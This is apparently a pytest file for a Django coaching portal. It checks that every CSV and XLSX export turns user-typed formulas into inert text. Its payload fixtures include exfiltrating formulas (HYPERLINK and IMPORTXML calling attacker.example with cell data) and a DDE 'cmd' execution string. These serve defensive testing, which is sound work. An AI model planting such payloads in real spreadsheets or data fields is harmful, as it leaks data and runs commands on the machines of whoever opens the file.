"""No export carries a live formula (issue 14, item 2): the shared helper, then a formula fed through every export.

A spreadsheet runs a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula. Every CSV the programme writes prefixes such text with an apostrophe;
every XLSX holds it as a string cell, never a formula; numbers stay numbers.
"""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from coaching.models import Contact
from connectors.files.template import template_bytes
from connectors.models import DataSource
from connectors.records import OrderLineRecord, OrderRecord, ProductRecord
from connectors.writer import write_orders, write_products
from journey import spreadsheets
from journey.spreadsheets import Verbatim
from reporting import programme as reporting
from tests.journey.factories import (
    AccountManagerFactory,
    CoordinatorFactory,
    LaunchpadFactory,
    LaunchpadManagerFactory,
    SMEFactory,
    SMEUserFactory,
)
from toolkit.models import Tool, ToolAccess

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
PAYLOADS = {
    "company": FORMULA,
    "title": "=1+2",
    "order": "@SUM(1+1)",
    "summary": "+cmd|' /C calc'!A0",
    "follow_up": "-2+3",
    "lesson": '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
}


# --- The helper ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_csv_text_that_starts_a_formula_is_prefixed(text):
    assert spreadsheets.csv_cell(text) == f"'{text}"


def test_csv_numbers_dates_and_plain_text_are_written_as_they_are():
    assert spreadsheets.csv_cell(-12.5) == "-12.5"
    assert spreadsheets.csv_cell(Decimal("-3.20")) == "-3.20"
    assert spreadsheets.csv_cell(Verbatim("-3,20")) == "-3,20"
    assert spreadsheets.csv_cell(datetime.date(2026, 3, 1)) == "2026-03-01"
    assert spreadsheets.csv_cell("Tea & cake = joy") == "Tea & cake = joy"
    assert spreadsheets.csv_cell(None) == ""


def test_xlsx_text_is_a_string_cell_and_numbers_stay_numbers():
    book = spreadsheets.xlsx_workbook()
    sheet = spreadsheets.xlsx_sheet(book, "Data: 1/2", ["Name", "Sales"])
    spreadsheets.xlsx_append(sheet, ["=1+1", -5])
    sheet.cell(3, 1).value = "=2+2"  # set directly, outside the helper: still made inert on save
    loaded = openpyxl.load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(book))).active
    assert loaded.title == "Data  1 2"
    assert loaded["A1"].font.bold and loaded.freeze_panes == "A2"
    assert (loaded["A2"].value, loaded["A2"].data_type) == ("=1+1", "s")
    assert (loaded["A3"].value, loaded["A3"].data_type) == ("=2+2", "s")
    assert (loaded["B2"].value, loaded["B2"].data_type) == (-5, "n")


def test_only_the_programmes_own_worksheet_keeps_its_formulas():
    from cms.resources import worksheet_xlsx

    sheet = openpyxl.load_workbook(io.BytesIO(worksheet_xlsx("en"))).active
    assert sheet["E2"].data_type == "f" and sheet["E2"].value.startswith("=IF(")
    for language in ("en", "fr"):
        assert_xlsx_inert(template_bytes("orders", "xlsx", language), [])


# --- Every export --------------------------------------------------------------------------------


def assert_xlsx_inert(content: bytes, payloads: list[str]) -> None:
    """No formula anywhere in the workbook, and each payload present as plain text."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    for payload in payloads:
        assert payload in texts, f"{payload!r} missing from the workbook"


def assert_csv_inert(content: bytes, payloads: list[str]) -> None:
    """Each payload written with a leading apostrophe, and no cell starting a formula."""
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.split("\r\n", 1)[0].count(";") > text.split("\r\n", 1)[0].count(",") else ","
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    for cell in cells:
        assert not cell.startswith(spreadsheets.FORMULA_STARTS) or cell.lstrip("-").replace(".", "").isdigit(), cell
    for payload in payloads:
        assert f"'{payload}" in cells, f"{payload!r} not neutralised in the CSV"


@pytest.fixture
def poisoned(db):
    """An SME whose name, product, order, contact and lesson were each typed as a formula."""
    uk = LaunchpadFactory()
    LaunchpadFactory(france=True, programme=uk.programme)
    manager = AccountManagerFactory(launchpad=uk)
    sme = SMEFactory(launchpad=uk, primary_account_manager=manager, name=PAYLOADS["company"], slug="poisoned")
    source = DataSource.objects.create(sme=sme, kind="file")
    write_products(source, [ProductRecord(external_id="1", sku="P1", title=PAYLOADS["title"], price=Decimal("9"))])
    # In the last complete month: the growth tool keeps every order of that month.
    placed = (timezone.now().replace(day=1) - datetime.timedelta(days=20)).replace(hour=12)
    line = OrderLineRecord(line_key="1", sku="P1", quantity=2, unit_price=Decimal("9"), description=PAYLOADS["title"])
    # An order the month before: the history starts there, so the poisoned order's month is complete.
    earlier = placed.replace(day=1) - datetime.timedelta(days=1)
    write_orders(
        source,
        [
            OrderRecord(external_id="0", placed_at=earlier, lines=[line]),
            OrderRecord(external_id=PAYLOADS["order"], placed_at=placed, lines=[line]),
        ],
    )
    for tool in Tool.values:
        ToolAccess.objects.get_or_create(sme=sme, tool=tool)
    Contact.objects.create(
        sme=sme, channel="phone", summary=PAYLOADS["summary"], follow_up=PAYLOADS["follow_up"], author=manager
    )
    return sme, manager


def test_the_toolkit_downloads_write_formulas_as_text(client, poisoned):
    sme, _manager = poisoned
    client.force_login(SMEUserFactory(sme=sme))
    client.get(f"/en/portal/smes/{sme.slug}/toolkit/")  # computes and stores the report
    expected = {
        "inventory_fixes": [PAYLOADS["title"]],
        "growth_orders": [PAYLOADS["order"]],
        "growth_products": [PAYLOADS["title"]],
    }
    for table, payloads in expected.items():
        for language in ("en", "fr"):
            base = f"/{language}/portal/smes/{sme.slug}/toolkit/export/{table}"
            response = client.get(f"{base}.xlsx")
            assert response.status_code == 200, table
            assert_xlsx_inert(response.content, payloads)
            response = client.get(f"{base}.csv")
            assert response.status_code == 200, table
            assert_csv_inert(response.content, payloads)


def test_the_progress_sheets_write_formulas_as_text(client, poisoned):
    sme, manager = poisoned
    client.force_login(manager)
    payloads = [PAYLOADS["company"], PAYLOADS["summary"], PAYLOADS["follow_up"]]
    for url in (
        f"/en/portal/coaching/smes/{sme.slug}/progress.xlsx",
        f"/en/portal/coaching/launchpads/{sme.launchpad.code}/progress.xlsx",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_xlsx_inert(response.content, payloads)


def test_the_admin_sme_list_exports_write_formulas_as_text(client, poisoned):
    sme, _manager = poisoned
    client.force_login(LaunchpadManagerFactory(launchpad=sme.launchpad))
    response = client.get("/admin/smes/?export=csv")
    assert response.status_code == 200
    assert_csv_inert(b"".join(response.streaming_content), [PAYLOADS["company"]])
    response = client.get("/admin/smes/?export=xlsx")
    assert response.status_code == 200
    assert_xlsx_inert(
        b"".join(response.streaming_content) if response.streaming else response.content, [PAYLOADS["company"]]
    )


def test_the_quarterly_review_spreadsheet_writes_formulas_as_text(client, poisoned):
    sme, _manager = poisoned
    review = reporting.review_create(sme.launchpad.programme, 2)
    reporting.lesson_add(review, text_en=PAYLOADS["lesson"], text_fr=PAYLOADS["lesson"])
    client.force_login(CoordinatorFactory())
    response = client.get(f"/admin/programme/{review.pk}/xlsx/")
    assert response.status_code == 200
    assert_xlsx_inert(response.content, [PAYLOADS["lesson"]])
